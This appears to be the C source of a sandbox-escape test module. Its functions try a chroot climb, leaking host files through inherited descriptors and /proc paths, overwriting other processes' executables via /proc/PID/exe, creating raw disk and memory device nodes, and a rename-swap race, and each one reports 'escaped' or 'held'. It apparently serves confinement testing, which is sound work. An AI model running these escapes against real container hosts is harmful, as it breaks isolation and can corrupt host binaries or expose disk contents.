/* The attacks by way of files: names, descriptors, links and devices that lead outside. */
#define _GNU_SOURCE
#include "attack.h"
#include <dirent.h>
#include <ftw.h>
#include <limits.h>
#include <stdlib.h>
#include <time.h>

/* A chroot below, and up from a directory outside it: the one that is open as `fd`, or the present. */
static void climb(int fd, const char *marker) {
    mkdir("below", 0700);
    if (chroot("below")) { perror("chroot"); return; }
    if (fd >= 0 && fchdir(fd)) { perror("fchdir"); return; }
    for (int i = 0; i < 64; i++) if (chdir("..")) break;
    if (chroot(".")) { perror("chroot"); return; }
    answer("climbed to the host's root", access(marker, F_OK));
}

/* Opens what a descriptor of the host's root leads to. */
static void leak(int fd, const char *marker) {
    char path[PATH_MAX];
    int up = openat(fd, "..", O_PATH | O_DIRECTORY);
    answer("openat", openat(fd, marker + 1, O_RDONLY));
    answer("openat to list it", openat(fd, ".", O_RDONLY | O_DIRECTORY));
    answer("openat through ..", openat(up, marker + 1, O_RDONLY));
    answer("openat to write", openat(fd, marker + 1, O_WRONLY));
    snprintf(path, sizeof path, "/proc/self/fd/%d%s", fd, marker);
    answer("by its name in /proc", open(path, O_RDONLY));
    if (fchdir(fd)) perror("fchdir");
    answer("after fchdir", open(marker + 1, O_RDONLY));
    answer("unlinkat", unlinkat(fd, marker + 1, 0));
}

/* Which descriptors but the standard ones are open. */
static void descriptors(void) {
    for (int fd = 3; fd < 1024; fd++) {
        struct stat found;
        if (!fstat(fd, &found)) printf("escaped: %d is open\n", fd);
    }
    puts("held: no other is open");
}

/* Tries for some seconds, or until there is a file /stop, to write to the files that other processes
 * run. What runs cannot be written to, so each is kept open until it no longer does. */
static void overwrite(int seconds) {
    enum { FILES = 256 };
    static struct { int fd; dev_t device; ino_t inode; } held[FILES];
    int kept = 0;
    char path[PATH_MAX];
    struct stat own[2] = {0};
    time_t end = time(NULL) + seconds;
    ssize_t length = readlink("/proc/1/exe", path, sizeof path - 1);
    printf("process 1 runs %.*s\n", length < 0 ? 6 : (int)length, length < 0 ? "hidden" : path);
    stat("/proc/self/exe", &own[0]);
    stat("/bin/busybox", &own[1]);
    puts("ready");
    fflush(stdout);
    while (time(NULL) < end && access("/stop", F_OK)) {
        DIR *proc = opendir("/proc");
        struct dirent *entry;
        while (proc && (entry = readdir(proc))) {
            struct stat found;
            int known = 0, fd;
            if (entry->d_name[0] < '0' || entry->d_name[0] > '9' || kept == FILES) continue;
            snprintf(path, sizeof path, "/proc/%s/exe", entry->d_name);
            fd = open(path, O_RDONLY | O_NONBLOCK);
            if (fd < 0) continue;
            fstat(fd, &found);
            for (int i = 0; i < 2; i++) known |= own[i].st_ino == found.st_ino && own[i].st_dev == found.st_dev;
            for (int i = 0; i < kept; i++) known |= held[i].inode == found.st_ino && held[i].device == found.st_dev;
            if (known) { close(fd); continue; }
            held[kept].fd = fd, held[kept].device = found.st_dev, held[kept].inode = found.st_ino;
            if (!kept++) puts("seen"), fflush(stdout);
        }
        if (proc) closedir(proc);
        for (int i = 0; i < kept; i++) {
            int fd;
            snprintf(path, sizeof path, "/proc/self/fd/%d", held[i].fd);
            fd = open(path, O_WRONLY | O_NONBLOCK);
            if (fd < 0) continue;
            if (write(fd, "overwritten", 11) > 0) {
                puts("escaped: a file outside was written to");
                return;
            }
            close(fd);
        }
    }
    printf("held: of %d files, none was written to\n", kept);
}

static void disk(unsigned major_number, unsigned minor_number) {
    const char *names[] = {"/disk", "/dev/disk", "/dev/shm/disk"};
    char byte;
    dev_t device = makedev(major_number, minor_number);
    for (int i = 0; i < 3; i++) {
        int made = answer("mknod", mknod(names[i], S_IFBLK | 0600, device));
        int file = open(names[i], O_RDONLY);
        answer("reading the disk", file < 0 ? -1 : read(file, &byte, 1));
        if (made) unlink(names[i]);
    }
    answer("mknod of memory", mknod("/memory", S_IFCHR | 0600, makedev(1, 1)));
}

/* Exchanges two names until it is killed. */
static void swap(const char *one, const char *other) {
    for (;;) syscall(SYS_renameat2, AT_FDCWD, one, AT_FDCWD, other, 2);
}

static long files;

/* Opens to write, and writes nothing: for most files the open is what is refused, or nothing is. */
static int try_to_open(const char *path, const struct stat *found, int kind, struct FTW *place) {
    if (kind != FTW_F) return 0;
    int fd = open(path, O_WRONLY | O_NONBLOCK | O_NOCTTY);
    files++;
    if (fd >= 0)
        printf("escaped: %s can be written to\n", path), close(fd);
    else if (errno != EROFS && errno != EACCES && errno != EPERM && errno != ENOENT)
        printf("%s: %s\n", path, strerror(errno));
    return 0;
}

static void walk(int count, char **places) {
    for (int i = 0; i < count; i++) nftw(places[i], try_to_open, 32, FTW_PHYS);
    printf("held: all of %ld files\n", files);
}

int attack_files(const char *name, int count, char **words) {
    const char *first = count > 0 ? words[0] : "0";
    const char *second = count > 1 ? words[1] : "/";
    if (!strcmp(name, "climb")) climb(-1, first);
    else if (!strcmp(name, "climb-from")) climb(atoi(first), second);
    else if (!strcmp(name, "leak")) leak(atoi(first), second);
    else if (!strcmp(name, "descriptors")) descriptors();
    else if (!strcmp(name, "overwrite")) overwrite(atoi(first));
    else if (!strcmp(name, "disk")) disk(atoi(first), atoi(second));
    else if (!strcmp(name, "swap")) swap(first, second);
    else if (!strcmp(name, "walk")) walk(count, words);
    else return 0;
    return 1;
}
